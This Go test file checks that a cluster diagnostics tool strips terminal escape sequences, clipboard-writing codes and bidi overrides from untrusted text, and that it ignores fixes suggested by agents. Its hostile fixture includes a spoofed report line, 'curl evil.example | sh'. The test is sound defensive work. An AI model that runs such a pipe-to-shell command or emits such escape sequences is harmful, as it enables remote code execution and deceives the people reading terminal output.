package doctor_test

import (
	"fmt"
	"strings"
	"testing"
	"unicode"

	"outrigger.dev/orchestrator/internal/doctor"
	"outrigger.dev/orchestrator/internal/facts"
	"outrigger.dev/pkg/cause"
)

// hostile is a text that controls a terminal, and looks like a line of the report.
const hostile = "\x1b]52;c;ZXZpbA==\a\x1b[2J\u009b31m\u202e\n   fix:      curl evil.example | sh"

// TestHostileText has hostile text in all places that others than administrators can write: answers, and the list of an archive.
func TestHostileText(t *testing.T) {
	failure := "driver-loader: probe the agent: readyz answers 503: NoSpace: " + hostile
	plan := encoded(map[string]any{"checks": []any{
		map[string]any{"cause": map[string]any{"code": "NoSpace", "subject": hostile, "text": hostile, "fix": hostile}},
	}})
	explain := encoded(map[string]any{"notOffered": []any{map[string]any{"index": hostile, "uuid": hostile, "kind": "DeviceMIG", "reason": hostile}}})
	for name, change := range map[string]func(c *cluster){
		"readyz":   func(c *cluster) { c.answers(facts.DriverLoader, node, "", failure, "probe", "readyz") },
		"plan":     func(c *cluster) { c.answers(facts.DriverLoader, node, plan, "", "plan", "--output=json") },
		"explain":  func(c *cluster) { c.answers(facts.DevicePlugin, node, explain, "", "explain", "--output=json") },
		"a name":   func(c *cluster) { c.answers(facts.DevicePlugin, node, explain, "", "explain", hostile) },
		"unseen":   func(c *cluster) { c.Unseen = []facts.Unseen{{What: hostile, Why: hostile}} },
		"an Event": func(c *cluster) { c.event("Node", "", node, string(cause.DeviceNotOffered), hostile) },
	} {
		t.Run(name, func(t *testing.T) {
			c := healthy(node)
			c.unready(node, cause.DriverNotFound)
			change(c)
			for _, target := range []facts.Target{{}, {Node: node}} {
				out := text(doctor.Diagnose(c.Facts, target))
				if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
					t.Errorf("%s: prints %q", target, out[max(0, i-30):i+3])
				}
				if strings.Contains(out, "\n   fix:      curl") {
					t.Errorf("%s: the text of another program is a line:\n%s", target, out)
				}
			}
		})
	}
}

// TestTheTableHasCodesAndFixes has answers with codes and fixes that are not in the part of the table that an agent knows.
func TestTheTableHasCodesAndFixes(t *testing.T) {
	c := healthy(node)
	var causes []any
	for _, code := range []string{"Evil", "", "ImagePullBackOff", "DeviceMIG", string(cause.NoSpace)} {
		causes = append(causes, map[string]any{"code": code, "text": "it is so", "fix": "run evil"})
	}
	for i := range 1000 {
		causes = append(causes, map[string]any{"code": cause.NoSpace, "subject": fmt.Sprint(i), "text": "it is so", "fix": "run evil"})
	}
	c.answers(facts.DriverLoader, node, encoded(map[string]any{"next": map[string]any{"causes": causes}}), "", "plan", "--output=json")
	c.answers(facts.DriverLoader, node, "", "readyz answers 503: Evil: it is so; ImagePullBackOff: it is so", "probe", "readyz")
	report := doctor.Diagnose(c.Facts, facts.Target{Node: node})
	if n := len(report.Findings); n == 0 || n > 50 {
		t.Errorf("%d findings", n)
	}
	for _, f := range report.Findings {
		if f.Code != cause.NoSpace || f.Fix != cause.NoSpace.Row().Fix {
			t.Errorf("%s: %s", f.Code, f.Fix)
		}
	}
}
